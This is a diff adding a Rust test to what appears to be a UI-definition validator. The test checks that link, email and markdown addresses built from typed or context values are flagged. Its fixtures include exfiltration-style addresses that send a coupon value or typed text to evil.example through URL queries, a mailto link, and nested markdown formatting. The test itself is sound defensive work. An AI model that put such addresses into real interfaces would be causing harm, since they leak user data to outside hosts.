@@ -117,6 +117,58 @@ fn the_address_of_a_picture_never_comes_from_what_is_typed() {
 }
 
 #[test]
+fn the_address_of_a_link_never_comes_from_what_is_typed() {
+    let view = |component: Value| {
+        let mut root = component;
+        root["id"] = json!("root");
+        json!([root, {"id":"label","component":"Text","text":"Open"}])
+    };
+    let call = |text: &str| json!({"call":"formatString","args":{"value":text}});
+    let opens = |url: Value| json!({"component":"Button","child":"label","action":{"functionCall":{"call":"openUrl","args":{"url":url}}}});
+    let fact = |value: Value, format: &str| json!({"component":"KeyValue","items":[{"label":"x","value":value,"format":format}]});
+    let table = |column: Value, source: &str| {
+        let mut table = json!({"component":"Table","rows":{"path":"/props/items"},"columns":[column]});
+        table[source] = json!({"path":"/ui/items"});
+        table
+    };
+    let poll = json!({"component":"Poll","rows":{"path":"/ui/items"},"titleField":"title","titleFormat":"url"});
+    let column = |format: &str| json!({"field":"title","label":"T","format":format});
+    let within = json!({"field":"title","label":"T","format":"record","parts":[column("url")]});
+    for (component, member) in [
+        (opens(json!({"path":"/context/coupon"})), "action"),
+        (opens(call("https://evil.example/?q=${/context/coupon}")), "action"),
+        (fact(json!({"path":"/context/coupon"}), "url"), "items"),
+        (fact(call("a@evil.example?body=${/ui/word}"), "email"), "items"),
+        (table(column("url"), "rows"), "columns"),
+        (table(column("email"), "rows"), "columns"),
+        (table(column("image"), "changes"), "columns"),
+        (table(within, "rows"), "columns"),
+        (poll, "titleFormat"),
+        (
+            json!({"component":"Text","text":call("[x](https://evil.example/?q=${/context/coupon})")}),
+            "text",
+        ),
+        (
+            json!({"component":"Text","text":call("[x](https://evil.example/?q=${formatString(value: '${/ui/word}')})")}),
+            "text",
+        ),
+    ] {
+        let expected = format!("VIEW_TYPED_ADDRESS components[root].{member}");
+        assert_eq!(told(view(component.clone())), [expected], "{component}");
+    }
+    for component in [
+        opens(json!("https://shop.example/context/ui")),
+        opens(call("https://shop.example/${/props/currency}")),
+        fact(json!({"path":"/props/note"}), "url"),
+        fact(json!({"path":"/context/coupon"}), "markdown"),
+        json!({"component":"Text","text":call("[x](https://shop.example) for ${/context/coupon}")}),
+        json!({"component":"Table","rows":{"path":"/props/items"},"columns":[column("url")]}),
+    ] {
+        assert_eq!(told(view(component.clone())), Vec::<String>::new(), "{component}");
+    }
+}
+
+#[test]
 fn cycles_depth_and_doubling_are_refused() {
     let link =
         |id: &str, children: Value| json!({"id":id,"component":"Column","children":children});
